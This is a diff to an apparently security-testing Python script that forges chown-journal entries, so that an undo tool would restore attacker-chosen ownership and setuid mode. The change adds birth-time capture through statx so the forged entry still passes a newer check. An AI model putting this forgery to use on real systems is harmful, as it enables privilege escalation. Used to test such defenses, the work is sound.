@@ -35,6 +35,20 @@ def generation(path):
         os.close(fd)
 
 
+def _btime_ns(path):
+    """statx(STATX_BTIME) through libc (Python < 3.15 has no os.statx)."""
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    buf = ctypes.create_string_buffer(256)
+    AT_SYMLINK_NOFOLLOW, STATX_BTIME = 0x100, 0x800
+    if libc.statx(-100, os.fsencode(path), AT_SYMLINK_NOFOLLOW, STATX_BTIME, buf) != 0:
+        raise OSError(ctypes.get_errno(), "statx")
+    mask = struct.unpack_from("<I", buf, 0)[0]
+    assert mask & STATX_BTIME, "no birth time on " + path
+    sec, nsec = struct.unpack_from("<qI", buf, 0x50)
+    return sec * 10**9 + nsec
+
+
 def forge(root, target, uid, gid, mode):
     """A well-formed format-2 chown journal for the tree root saying that
     target was uid:gid mode before a chown to 0:0: everything the attacker
@@ -51,8 +65,12 @@ def forge(root, target, uid, gid, mode):
     h += b"\0" * (hlen - len(h) - 4)
     h = h[:12] + struct.pack("<I", hlen) + h[16:]
     h += struct.pack("<I", zlib.crc32(h))
+    # The birth time too (statx needs no privilege): without one, undo no
+    # longer trusts a setuid entry at all (test_rewrite_generation.py).
+    bt = os.statx(target, os.STATX_BTIME, follow_symlinks=False).stx_btime_ns \
+        if hasattr(os, "statx") else _btime_ns(target)
     ent = struct.pack("<QQIIIIIIIIqII", ts.st_dev, ts.st_ino, uid, gid, mode, 0, 0, 0,
-                      2, generation(target), 0, 0, 0)  # JID_GEN
+                      3, generation(target), bt // 10**9, bt % 10**9, 0)  # JID_BTIME|JID_GEN
     rec = struct.pack("<IIQ", 0x48435442, 1, len(ent)) + ent
     rec += struct.pack("<I", zlib.crc32(rec)) + b"\0" * 4
     return h + rec
